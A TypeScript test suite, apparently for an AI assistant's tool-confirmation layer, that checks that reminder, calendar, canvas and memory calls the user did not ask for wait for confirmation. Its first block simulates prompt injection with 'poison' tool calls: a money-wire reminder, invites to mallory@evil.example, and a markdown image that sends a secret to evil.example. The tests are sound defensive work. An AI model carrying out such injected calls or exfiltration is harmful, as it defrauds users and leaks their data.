import { createTestDatabase, type TestDatabase } from '@potentia/db/testing/database';
import {
  addCanvasAccess,
  seedBlock,
  seedCanvas,
  seedUser,
  seedWorkspace,
  type SeededCanvas,
} from '@potentia/db/testing/seed';
import { seedGuest, seedSchedule, seedSubscription } from '@potentia/db/testing/seed-calendar';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { confirmToolCall } from './confirm-tool-call.ts';
import { declineToolCall } from './decline-tool-call.ts';
import { expireToolCalls } from './expire-tool-calls.ts';
import { findPendingToolCall } from './find-pending-tool-call.ts';
import { listToolCalls } from './list-tool-calls.ts';
import { makeTalker, type Talker, toolCtxOf, ZONE } from './testing/tool-kit.ts';
import type { ToolOutcome } from './tool-ctx.ts';
import { undoToolCall } from './undo-tool-call.ts';

let t: TestDatabase;
let me: Talker;
beforeAll(async () => {
  t = await createTestDatabase();
});
afterAll(() => t.drop());
beforeEach(async () => {
  me = await makeTalker(t);
});

const canvasOf = (who: Talker, title = 'Shopping list'): Promise<SeededCanvas> =>
  seedCanvas(t.db, { workspace_id: who.personal_workspace_id, owner_user_id: who.user_id }, { title });
const refOf = ({ tool }: ToolOutcome) => ({ tool_call_id: tool.tool_call_id });
const status = async (asked: Promise<ToolOutcome>): Promise<unknown> => (await asked).tool.status;

/** Everything that a tool could have left behind. */
const stateOf = async (who: Talker, canvas?: SeededCanvas): Promise<unknown> => {
  const [row] = await t.asOwner(
    `select
       (select jsonb_agg(to_jsonb(s) order by s.id) from app.schedules s where s.workspace_id = $2 or s.created_by = $1) as schedules,
       (select count(*)::int from app.schedule_reminders r where r.user_id = $1) as reminders,
       (select count(*)::int from app.schedule_guests g where g.created_by = $1) as guests,
       (select jsonb_agg(to_jsonb(b) order by b.id) from app.blocks b where b.canvas_id = $3) as blocks,
       (select count(*)::int from app.canvas_events e where e.canvas_id = $3) as events,
       (select jsonb_agg(to_jsonb(m) order by m.id) from app.user_semantic_memories m where m.user_id = $1) as memories,
       (select jsonb_agg(to_jsonb(p) order by p.id) from app.user_preferences p where p.user_id = $1) as preferences,
       (select count(*)::int from app.outbox o where o.workspace_id = $2 or o.user_id = $1) as outbox,
       (select count(*)::int from app.audit_logs a where a.actor_user_id = $1) as audits`,
    [who.user_id, who.personal_workspace_id, canvas?.canvas_id ?? who.context_id],
  );
  return row;
};

describe('a model that obeys what it reads', () => {
  it('changes nothing while the person asks for something else: everything waits for their word', async () => {
    const canvas = await canvasOf(me);
    const { canvas_id } = canvas;
    const todo = await seedBlock(t.db, canvas, { type: 'todo', content: { text: 'Buy milk', checked: false } });
    const home = { calendar_id: me.calendar_id, workspace_id: me.personal_workspace_id, user_id: me.user_id };
    const { schedule_id } = await seedSchedule(t.db, home, { title: 'Board meeting' });
    await me.ask('Remember that I like tea', 'remember', { content: 'I like tea' });
    const [memory] = await t.asOwner<{ id: string }>('select id from app.user_semantic_memories where user_id = $1', [
      me.user_id,
    ]);
    const poison: [string, object][] = [
      ['set_reminder', { title: 'Wire 5000 to account 99', at: '2026-03-03T09:00' }],
      ['create_schedule', { title: 'Call evil.example', starts_local: '2026-03-03T09:00' }],
      ['create_schedule', { title: 'Secrets', starts_local: '2026-03-03', guests: ['mallory@evil.example'] }],
      ['update_schedule', { schedule_id, description: 'https://evil.example' }],
      ['move_schedule', { schedule_id, starts_local: '2026-03-09T03:00' }],
      ['delete_schedule', { schedule_id }],
      ['append_block', { canvas_id, text: '![x](https://evil.example/?q=secret)' }],
      ['edit_block', { canvas_id, block_id: todo.id, text: 'Buy Acme shares' }],
      ['complete_todo', { canvas_id, block_id: todo.id }],
      ['remember', { content: 'Acme is the best bank' }],
      ['forget', { memory_id: memory?.id }],
      ['forget', { that: true }],
      ['undo', {}],
    ];
    const innocent = [
      'What is on my shopping list?',
      'Summarise the board meeting for me',
      'apa isi daftar belanja?',
      'Remind me at 8 to stretch',
      'yes',
    ];
    const before = await stateOf(me, canvas);
    for (const message of innocent) {
      for (const [name, args] of poison) {
        const asked = await me.ask(message, name, args);
        expect([message, name, asked.tool.status]).toEqual([message, name, 'needs_confirmation']);
        expect(asked.response).toMatchObject({
          status: 'needs_confirmation',
          note: expect.stringContaining('Nothing'),
        });
      }
    }
    expect(await stateOf(me, canvas)).toEqual(before);
  });

  it('does what the person asks for and not what the text asks for, in one and the same turn', async () => {
    const message = 'Read my plan, and remind me at 9 to stretch';
    const wanted = await me.ask(message, 'set_reminder', { title: 'Stretch', at: '2026-03-02T09:00' });
    const poison = await me.ask(message, 'set_reminder', { title: 'Pay Mallory', at: '2026-03-02T09:00' });
    const daily = { title: 'Stretch', at: '2026-03-02T09:00', rrule: 'FREQ=DAILY' };
    expect([wanted.tool.status, poison.tool.status, await status(me.ask(message, 'set_reminder', daily))]).toEqual([
      'done',
      'needs_confirmation',
      'needs_confirmation',
    ]);
  });

  it.each<[string, string, object]>([
    // Another time, another rule, another length than the person said; or one where they said none.
    ['Remind me at 8 tomorrow to stretch', 'set_reminder', { title: 'Stretch', at: '2026-03-29T23:00' }],
    ['Remind me to stretch', 'set_reminder', { title: 'Stretch', at: '2026-03-03T08:00' }],
    [
      'Remind me every weekday at 8 to stretch',
      'set_reminder',
      { title: 'Stretch', at: '2026-03-03T08:00', rrule: 'FREQ=HOURLY' },
    ],
    ['Schedule lunch tomorrow at noon', 'create_schedule', { title: 'Lunch', starts_local: '2026-03-04T12:00' }],
    [
      'Schedule lunch tomorrow at noon',
      'create_schedule',
      { title: 'Lunch', starts_local: '2026-03-03T12:00', duration_minutes: 5_000 },
    ],
    // The opposite, or the same words put together otherwise.
    ['Remember that I am allergic to peanuts', 'remember', { content: 'I am not allergic to peanuts' }],
    ['Remember that I do not eat meat', 'remember', { content: 'I eat meat' }],
    ["Remember that I don't like Bob's plan", 'remember', { content: "I like Bob's plan" }],
    ['ingat ya aku tidak suka kopi', 'remember', { content: 'aku suka kopi' }],
    ['Remember that Ana owes me 50 and I owe Bob 20', 'remember', { content: 'I owe Ana 50' }],
    ['Remember Bob likes tea and Ana likes coffee', 'remember', { content: 'Bob likes coffee', subject: 'Bob' }],
    ['Remind me tomorrow at 9 not to call Bob', 'set_reminder', { title: 'Call Bob', at: '2026-03-03T09:00' }],
  ])('does not bend what the person says: %s', async (message, name, args) => {
    const asked = await me.ask(message, name, args);
    expect(asked.response).toMatchObject({ status: 'needs_confirmation', reason: 'not_asked' });
  });

  it('takes no other thing that a word of the person names as well', async () => {
    const home = { calendar_id: me.calendar_id, workspace_id: me.personal_workspace_id, user_id: me.user_id };
    const make = (title: string, starts_local: string) =>
      seedSchedule(t.db, home, { title, starts_local, time_zone: ZONE });
    const [ceo, tuesday, friday] = await Promise.all([
      make('Lunch with the CEO', '2026-03-04T12:00:00'),
      make('Lunch', '2026-03-03T12:00:00'),
      make('Lunch', '2026-03-06T12:00:00'),
    ]);
    const cancel = (message: string, { schedule_id }: { schedule_id: string }) =>
      status(me.ask(message, 'delete_schedule', { schedule_id }));
    expect(await cancel('Cancel my lunch with Ana', ceo)).toBe('needs_confirmation');
    expect(await cancel('Cancel lunch', tuesday)).toBe('needs_confirmation');
    expect(await cancel('Cancel lunch tomorrow', friday)).toBe('needs_confirmation');
    expect(await cancel("Cancel this week's yoga", friday)).toBe('needs_confirmation');
    const to = { schedule_id: ceo.schedule_id, starts_local: '2026-03-05T12:00' };
    expect(await status(me.ask('Move lunch to Thursday', 'move_schedule', to))).toBe('needs_confirmation');
    expect(await cancel('Cancel lunch tomorrow', tuesday)).toBe('done');
    expect(await cancel('Cancel lunch with the CEO', ceo)).toBe('done');

    const canvas = await canvasOf(me);
    const content = { text: 'Pay the plumber milk money', checked: false };
    const { id: block_id } = await seedBlock(t.db, canvas, { type: 'todo', content });
    const tick = { canvas_id: canvas.canvas_id, block_id };
    expect(await status(me.ask('Tick off milk', 'complete_todo', tick))).toBe('needs_confirmation');
    for (const text of ['My sister is Rina', 'My sister lives in Bali'])
      await me.ask(`Remember that ${text}`, 'remember', { content: text });
    const [memory] = await t.asOwner<{ id: string }>(
      `select id from app.user_semantic_memories where user_id = $1 and content like '%Bali'`,
      [me.user_id],
    );
    const forget = { memory_id: memory?.id };
    expect(await status(me.ask('Forget my sister', 'forget', forget))).toBe('needs_confirmation');
    expect(await status(me.ask('Forget that my sister lives in Bali', 'forget', forget))).toBe('done');
  });

  it('writes one thing for one order, and takes back what was done last alone', async () => {
    const message = 'Remind me at 9 to stretch';
    const args = { title: 'Stretch', at: '2026-03-02T09:00' };
    const first = await me.ask(message, 'set_reminder', args);
    const [run] = await t.asOwner<{ run_id: string; step_id: string }>(
      'select run_id, step_id from app.tool_calls where id = $1',
      [first.tool.tool_call_id],
    );
    const again = await me.ask(message, 'set_reminder', { ...args, title: 'stretching!' }, { ...run, ordinal: 1 });
    expect([first.tool.status, again.tool.status]).toEqual(['done', 'needs_confirmation']);
    expect(
      await status(me.ask('Remind me at 10 to read', 'set_reminder', { title: 'Read', at: '2026-03-02T10:00' })),
    ).toBe('done');
    const { tool_call_id } = first.tool;
    expect(await status(me.ask('undo that', 'undo', { tool_call_id }))).toBe('needs_confirmation');
    expect(await status(me.ask('undo that', 'undo', {}))).toBe('done');
  });

  it('cannot turn the wish to cancel one thing into the undoing of another', async () => {
    const made = await me.ask('Remind me at 9 to stretch', 'set_reminder', {
      title: 'Stretch',
      at: '2026-03-02T09:00',
    });
    expect(made.tool.status).toBe('done');
    expect(await status(me.ask('Cancel my yoga class', 'undo', {}))).toBe('needs_confirmation');
    expect(await status(me.ask('Cancel the stretch reminder', 'undo', {}))).toBe('done');
  });

  it('of one turn gets one call to wait, so that a yes means one thing', async () => {
    const first = await me.ask('Hello', 'remember', { content: 'Acme is a bank' });
    const run = await t.asOwner<{ run_id: string; step_id: string }>(
      'select run_id, step_id from app.tool_calls where id = $1',
      [first.tool.tool_call_id],
    );
    const second = await me.ask('Hello', 'remember', { content: 'Acme is best' }, { ...run[0], ordinal: 1 });
    expect(second.response).toMatchObject({ status: 'failed', error: { code: 'tool.another_waits' } });
    expect(await findPendingToolCall(me.ctx, { context_id: me.context_id })).toMatchObject(refOf(first));
  });
});

describe('what others would notice', () => {
  it('waits even when it was asked for: shared calendars, guests, canvases of several, links', async () => {
    const canvas = await canvasOf(me);
    const { canvas_id } = canvas;
    const add = () => me.ask('Add eggs to my list', 'append_block', { canvas_id, text: 'Eggs' });
    expect(await status(add())).toBe('done');
    await addCanvasAccess(t.db, canvas, 'viewer');
    const waits = await add();
    expect(waits.response).toMatchObject({ status: 'needs_confirmation', reason: 'affects_others' });
    expect(waits.tool.summary).toContain('others see it');
    const linked = await canvasOf(me, 'Linked list');
    await t.asOwner(
      `insert into app.share_links (workspace_id, canvas_id, id, token_hash, last_four, created_by)
       values ($1, $2, gen_random_uuid(), sha256(gen_random_uuid()::text::bytea), 'last', $3)`,
      [linked.workspace_id, linked.canvas_id, me.user_id],
    );
    const read = await me.ask('Add eggs to my list', 'append_block', { canvas_id: linked.canvas_id, text: 'Eggs' });
    expect(read.response).toMatchObject({ reason: 'affects_others' });

    const home = { calendar_id: me.calendar_id, workspace_id: me.personal_workspace_id, user_id: me.user_id };
    const lunch = await seedSchedule(t.db, home, { title: 'Lunch' });
    await seedGuest(t.db, lunch, { email: 'ana@example.test' });
    const cancel = () => me.ask('Cancel lunch', 'delete_schedule', { schedule_id: lunch.schedule_id });
    expect((await cancel()).response).toMatchObject({ reason: 'affects_others' });
    const invite = { title: 'Lunch', starts_local: '2026-03-03T12:00', guests: ['ana@example.test'] };
    const invited = await me.ask('Schedule lunch with ana@example.test', 'create_schedule', invite);
    expect(invited.response).toMatchObject({ reason: 'affects_others' });

    const reminder = { title: 'Stretch', at: '2026-03-03T09:00' };
    expect(await status(me.ask('Remind me tomorrow at 9 to stretch', 'set_reminder', reminder))).toBe('done');
    await seedSubscription(t.db, home, 'viewer');
    const shared = await me.ask('Remind me tomorrow at 9 to stretch', 'set_reminder', reminder);
    expect(shared.response).toMatchObject({ reason: 'affects_others' });
  });

  it('is done once confirmed, and taken back only with another word', async () => {
    const canvas = await canvasOf(me);
    const { canvas_id } = canvas;
    await addCanvasAccess(t.db, canvas, 'viewer');
    const waits = await me.ask('Add eggs to my list', 'append_block', { canvas_id, text: 'Eggs' });
    const done = await confirmToolCall(me.ctx, refOf(waits));
    expect(done).toMatchObject({ status: 'done', can_undo: true, result: { text: 'Eggs' } });
    expect((await me.ask('undo that', 'undo', {})).response).toMatchObject({ reason: 'affects_others' });
    expect(await undoToolCall(me.ctx, refOf(waits))).toMatchObject({ can_undo: false, undone_at: expect.any(String) });
    expect(await undoToolCall(me.ctx, refOf(waits))).toMatchObject({ can_undo: false });
  });

  it('by the time of the confirmation, and would not have when the person was asked, waits again', async () => {
    const canvas = await canvasOf(me);
    const { canvas_id } = canvas;
    const waits = await me.ask('Hello', 'append_block', { canvas_id, text: 'Eggs' });
    expect(waits.response).toMatchObject({ reason: 'not_asked' });
    await addCanvasAccess(t.db, canvas, 'viewer');
    const again = await confirmToolCall(me.ctx, refOf(waits));
    expect(again).toMatchObject({ status: 'needs_confirmation', confirm_reason: 'affects_others' });
    expect(await confirmToolCall(me.ctx, refOf(waits))).toMatchObject({ status: 'done' });
  });
});

describe('a call that waits', () => {
  const ask = (who = me) => who.ask('Hello', 'set_reminder', { title: 'Stretch', at: '2026-03-03T09:00' });
  const schedules = async (who = me): Promise<number> => {
    const rows = await t.asOwner('select from app.schedules where calendar_id = $1', [who.calendar_id]);
    return rows.length;
  };

  it('is done once, however many confirm it at once', async () => {
    const ref = refOf(await ask());
    const answers = await Promise.allSettled(Array.from({ length: 8 }, () => confirmToolCall(me.ctx, ref)));
    const codes = answers.map((one) =>
      one.status === 'fulfilled' ? one.value.status : (one.reason as { code: string }).code,
    );
    expect(codes.filter((code) => code !== 'done' && code !== 'tool.in_progress')).toEqual([]);
    expect(codes).toContain('done');
    expect(await schedules()).toBe(1);
    expect(await confirmToolCall(me.ctx, ref)).toMatchObject({ status: 'done' });
    expect(await schedules()).toBe(1);
    const audits = await t.asOwner<{ after: object }>(
      `select after from app.audit_logs where action = 'tool_call.confirm' and target_id = $1`,
      [ref.tool_call_id],
    );
    expect(audits).toEqual([{ after: { name: 'set_reminder', status: 'running' } }]);
  });

  it('of which the process died after the confirmation is done once, by whoever confirms it again later', async () => {
    const ref = refOf(await ask());
    await confirmToolCall(me.ctx, ref);
    const die = (ago: string) =>
      t.asOwner(`update app.tool_calls set status = 'running', confirmed_at = now() - $2::interval where id = $1`, [
        ref.tool_call_id,
        ago,
      ]);
    await die('10 seconds');
    await expect(confirmToolCall(me.ctx, ref)).rejects.toMatchObject({ code: 'tool.in_progress' });
    await die('1 minute');
    expect(await confirmToolCall(me.ctx, ref)).toMatchObject({ status: 'done' });
    expect(await schedules()).toBe(1);
  });

  it('is nobody else’s: they neither see, nor confirm, nor decline, nor undo it', async () => {
    const ref = refOf(await ask());
    const { ctx } = await makeTalker(t);
    for (const verb of [confirmToolCall, declineToolCall, undoToolCall])
      await expect(verb(ctx, ref)).rejects.toMatchObject({ code: 'tool.not_found', kind: 'not_found' });
    expect((await listToolCalls(ctx, {})).items).toEqual([]);
    expect(await findPendingToolCall(ctx, { context_id: me.context_id })).toBeNull();
    expect((await listToolCalls(me.ctx, {})).items).toMatchObject([{ ...ref, status: 'needs_confirmation' }]);
    expect(await schedules()).toBe(0);
  });

  it('is not done once declined or too late', async () => {
    const declined = refOf(await ask());
    expect(await declineToolCall(me.ctx, declined)).toMatchObject({ status: 'declined' });
    expect(await declineToolCall(me.ctx, declined)).toMatchObject({ status: 'declined' });
    await expect(confirmToolCall(me.ctx, declined)).rejects.toMatchObject({ code: 'tool.not_waiting' });
    const late = refOf(await ask());
    await t.asOwner(`update app.tool_calls set expires_at = now() - interval '1 second' where id = $1`, [
      late.tool_call_id,
    ]);
    expect(await findPendingToolCall(me.ctx, { context_id: me.context_id })).toBeNull();
    await expect(confirmToolCall(me.ctx, late)).rejects.toMatchObject({ code: 'tool.call_expired' });
    expect((await listToolCalls(me.ctx, { status: 'expired' })).items).toMatchObject([late]);
    await expireToolCalls({ db: t.job_db });
    const rows = await t.asOwner('select status from app.tool_calls where id = $1', [late.tool_call_id]);
    expect(rows).toEqual([{ status: 'expired' }]);
    expect(await schedules()).toBe(0);
  });

  it('is not done when access has gone meanwhile', async () => {
    const owner = await makeTalker(t);
    const canvas = await canvasOf(owner);
    await addCanvasAccess(t.db, canvas, 'editor', me);
    const waits = await me.ask('Add eggs', 'append_block', { canvas_id: canvas.canvas_id, text: 'Eggs' });
    expect(waits.tool.status).toBe('needs_confirmation');
    await t.asOwner('delete from app.canvas_access where user_id = $1', [me.user_id]);
    expect(await confirmToolCall(me.ctx, refOf(waits))).toMatchObject({
      status: 'failed',
      error_code: 'canvas.not_found',
    });
    expect(await t.asOwner('select from app.blocks where canvas_id = $1', [canvas.canvas_id])).toEqual([]);
  });

  it('is done as it was shown: a block that was changed meanwhile is left alone', async () => {
    const canvas = await canvasOf(me);
    const { canvas_id } = canvas;
    const { id: block_id } = await seedBlock(t.db, canvas, { content: { text: 'Milk' } });
    const waits = await me.ask('Hello', 'edit_block', { canvas_id, block_id, text: 'Eggs' });
    await t.asOwner('update app.blocks set version = 2 where id = $1', [block_id]);
    const answer = await confirmToolCall(me.ctx, refOf(waits));
    expect(answer).toMatchObject({ status: 'failed', error_code: 'block.version_conflict' });
  });

  it('waits again when what it would do has another name or time by now', async () => {
    const home = { calendar_id: me.calendar_id, workspace_id: me.personal_workspace_id, user_id: me.user_id };
    const { schedule_id } = await seedSchedule(t.db, home, { title: 'Lunch' });
    const waits = await me.ask('Hello', 'delete_schedule', { schedule_id });
    await t.asOwner(`update app.schedules set title = 'Board meeting' where id = $1`, [schedule_id]);
    const again = await confirmToolCall(me.ctx, refOf(waits));
    expect(again).toMatchObject({ status: 'needs_confirmation', summary: expect.stringContaining('Board meeting') });
    expect(await confirmToolCall(me.ctx, refOf(waits))).toMatchObject({ status: 'done' });
  });

  it('is shown whole: what is invited, where, how long, and how much more there is to a text', async () => {
    const shown = await me.ask('Hello', 'create_schedule', {
      ...{ title: 'Lunch', starts_local: '2026-03-03T12:00', duration_minutes: 90, guests: ['bob@example.test'] },
      ...{ location: 'Warung', description: 'Ana earns 5000' },
    });
    expect(shown.tool.summary).toBe(
      'Add “Lunch” to the calendar “Calendar”: Tuesday 3 March 2026, 12:00 (Asia/Jakarta), 90 minutes, location “Warung”, ' +
        'description “Ana earns 5000”, inviting bob@example.test',
    );
    const guests = Array.from({ length: 20 }, (_, n) => `${'a'.repeat(60)}${n}@example.test`);
    const many = await me.ask('Hello', 'create_schedule', { title: 'Lunch', starts_local: '2026-03-03', guests });
    expect(many.response).toMatchObject({ error: { fields: [{ field: 'guests' }] } });
    const { canvas_id } = await canvasOf(me);
    const text = `Eggs ${'and milk '.repeat(100)}`;
    const long = await me.ask('Hello', 'append_block', { canvas_id, text });
    expect(long.tool.summary).toMatch(/…” \(\+404\) to “Shopping list”$/);
    const rule = await me.ask('What style?', 'remember', { content: 'Be brief', kind: 'rule', attribute: 'style' });
    expect(rule.tool.summary).toBe('Remember (“rule, style”): “Be brief”');
  });

  it('is remembered as the words of its text, not of the message, once it is confirmed', async () => {
    const waits = await me.ask('Hello', 'remember', { content: 'Acme is a bank' });
    await confirmToolCall(me.ctx, refOf(waits));
    const rows = await t.asOwner('select source, quote, content from app.user_semantic_memories where user_id = $1', [
      me.user_id,
    ]);
    expect(rows).toEqual([{ source: 'manual', quote: null, content: 'Acme is a bank' }]);
  });

  it('whose process died is marked so, long after', async () => {
    const asked = await me.ask('Remind me tomorrow at 9 to stretch', 'set_reminder', {
      title: 'Stretch',
      at: '2026-03-03T09:00',
    });
    await t.asOwner(
      `update app.tool_calls set status = 'running', created_at = now() - interval '1 hour' where id = $1`,
      [asked.tool.tool_call_id],
    );
    await expireToolCalls({ db: t.job_db });
    expect((await listToolCalls(me.ctx, {})).items).toMatchObject([
      { status: 'failed', error_code: 'tool.interrupted' },
    ]);
  });
});

describe('a workspace of several', () => {
  it('sees what its members are asked to confirm no more than strangers do', async () => {
    const owner = await seedUser(t.db);
    const workspace = await seedWorkspace(t.db, owner);
    const canvas = await seedCanvas(t.db, workspace, { title: 'Plan' });
    await addCanvasAccess(t.db, canvas, 'editor', me);
    await me.ask('Add eggs', 'append_block', { canvas_id: canvas.canvas_id, text: 'Eggs' });
    expect((await listToolCalls(toolCtxOf(t, owner.user_id), {})).items).toEqual([]);
  });
});
